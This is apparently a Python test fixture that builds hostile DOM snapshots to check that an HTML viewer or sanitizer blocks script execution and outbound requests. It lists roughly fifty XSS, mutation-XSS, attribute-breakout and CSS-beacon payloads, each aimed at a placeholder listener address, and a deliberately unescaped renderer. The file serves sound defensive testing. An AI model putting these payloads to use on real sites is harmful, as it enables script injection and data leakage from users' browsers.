"""Hostile DOM snapshots: each tries to run a script or to reach a listener. Contract §8, case 96."""

import json
from typing import Any

#: Sets a mark that a test can read, and sends a request.
_SCRIPT = "document.title='ran';new Image().src='{evil}/script'"
#: By name: an element as a node. `{evil}` is the listener, `{script}` and `{bare}` run a script.
_NODES: dict[str, Any] = {
    "script": ["script", {}, "{script}"],
    "script of an address": ["script", {"src": "{evil}/js"}],
    "module": ["script", {"type": "module", "src": "{evil}/js"}],
    "handler": ["img", {"src": "x:", "onerror": "{script}"}],
    "handler in capitals": ["IMG", {"SRC": "x:", "OnError": "{script}"}],
    "handler of the body": ["body", {"onload": "{script}"}, "text"],
    "handler of a click": ["button", {"onclick": "{script}"}, "text"],
    "handler of details": ["details", {"open": "", "ontoggle": "{script}"}, "text"],
    "image": ["img", {"src": "{evil}/img"}],
    "image of several sizes": ["img", {"srcset": "{evil}/img 1x"}],
    "picture": ["picture", ["source", {"srcset": "{evil}/img"}], ["img", {"alt": "a"}]],
    "background": ["table", {"background": "{evil}/background"}, ["tr", ["td", "text"]]],
    "image button": ["input", {"type": "image", "src": "{evil}/button"}],
    "frame of a document": ["iframe", {"srcdoc": "<img src={evil}/srcdoc>"}],
    "frame of an address": ["iframe", {"src": "{evil}/frame"}],
    "frame of a script": ["iframe", {"src": "javascript:void(parent.document.title=/ran/.source)"}],
    "refresh": ["meta", {"http-equiv": "refresh", "content": "0;url={evil}/refresh"}],
    "style sheet": ["link", {"rel": "stylesheet", "href": "{evil}/css"}],
    "prefetch": ["link", {"rel": "prefetch", "href": "{evil}/prefetch"}],
    "icon and preload": ["link", {"rel": "preload", "as": "image", "href": "{evil}/preload"}],
    "style element": ["style", {}, "body{background:url({evil}/url)}"],
    "import": ["style", {}, "@import '{evil}/import';"],
    "font": ["p", ["style", "@font-face{font-family:f;src:url({evil}/font)}*{font-family:f}"], "text"],
    "style attribute": ["p", {"style": "background:url({evil}/style)"}, "text"],
    "style attribute with escapes": ["p", {"style": "background:\\75rl({evil}/escape)"}, "text"],
    "style attribute with image-set": ["p", {"style": "background:image-set('{evil}/set' 1x)"}, "text"],
    "cursor and mask": ["p", {"style": "mask-image:url({evil}/mask);cursor:url({evil}/c),auto"}, "text"],
    "svg": ["svg", {"onload": "{script}"}, ["image", {"href": "{evil}/svg"}]],
    "svg with foreign content": [
        "svg",
        ["foreignObject", ["img", {"src": "{evil}/foreign"}]],
        ["script", "{script}"],
    ],
    "svg as a picture": ["object", {"data": "{evil}/object.svg", "type": "image/svg+xml"}],
    "embedded": ["embed", {"src": "{evil}/embed"}],
    "video": ["video", {"src": "{evil}/video", "poster": "{evil}/poster", "autoplay": ""}],
    "audio": ["audio", {"preload": "auto", "src": "{evil}/audio"}],
    "base": ["div", ["base", {"href": "{evil}/"}], ["img", {"src": "relative"}]],
    "link": ["a", {"href": "{evil}/link"}, "text"],
    "link to a script": ["a", {"href": "javascript:{bare}"}, "text"],
    "form": ["form", {"action": "{evil}/form"}, ["button", {"type": "submit"}, "send"]],
    "button with an address": [
        "form",
        ["button", {"type": "submit", "formaction": "{evil}/formaction"}, "send"],
    ],
    "text that is markup": ["p", "<img src={evil}/text onerror={bare}>"],
    "attribute that ends": ["p", {"title": '"><img src={evil}/attribute onerror={bare}>'}, "text"],
    "name of an attribute that ends": ["p", {"x><img src={evil}/name": "y"}, "text"],
    "name of an element that ends": ["p><img src={evil}/element>", {}, "text"],
    "text area that ends": ["textarea", {"__v": "</textarea><img src={evil}/area>"}],
    "title that ends": ["head", ["title", "</title><img src={evil}/title onerror={bare}>"]],
    "mutation in noscript": ["noscript", '<p title="</noscript><img src={evil}/m onerror={bare}>">'],
    "mutation in math": [
        "math",
        ["mtext", ["table", ["mglyph", ["style", "<!--</style><img src={evil}/m onerror={bare}>-->"]]]],
    ],
    "mutation in svg": ["svg", ["p", ["style", "<a id='</style><img src={evil}/m onerror={bare}>'>"]]],
    "mutation in a template": ["xmp", "</xmp><img src={evil}/m onerror={bare}>"],
    "comment": ["p", "<!--><img src={evil}/comment onerror={bare}>-->"],
    "frame set": ["frameset", ["frame", {"src": "{evil}/frameset"}]],
}


def make_snapshots(evil: str) -> dict[str, Any]:
    """Return the snapshots by name; what they load is at the address `evil`."""
    script = _SCRIPT.format(evil=evil)
    bare = "void(document.title=/ran/.source)"
    text = json.dumps(_NODES)
    for name, value in (("evil", evil), ("script", script), ("bare", bare)):
        text = text.replace("{" + name + "}", value)
    nodes = json.loads(text)
    return {name: {"v": 1, "format": "nodes", "html": _make_document(node)} for name, node in nodes.items()}


def _make_document(node: Any) -> list[Any]:
    if node[0] == "body":
        return ["html", {}, node]
    if node[0] == "head":
        return ["html", {}, node, ["body", {}, "text"]]
    if node[0] == "frameset":
        return ["html", {}, node]
    return ["html", {}, ["head", ["title", "snapshot"]], ["body", {}, node]]


def write_naively(node: Any) -> str:
    """Return a node as HTML as a careless viewer would write it: nothing is escaped or left out."""
    if isinstance(node, str):
        return node
    tag, *rest = node
    attributes = rest.pop(0) if rest and isinstance(rest[0], dict) else {}
    value = attributes.get("__v", "")
    written = "".join(f' {name}="{text}"' for name, text in attributes.items() if name != "__v")
    return f"<{tag}{written}>{value}{''.join(map(write_naively, rest))}</{tag}>"
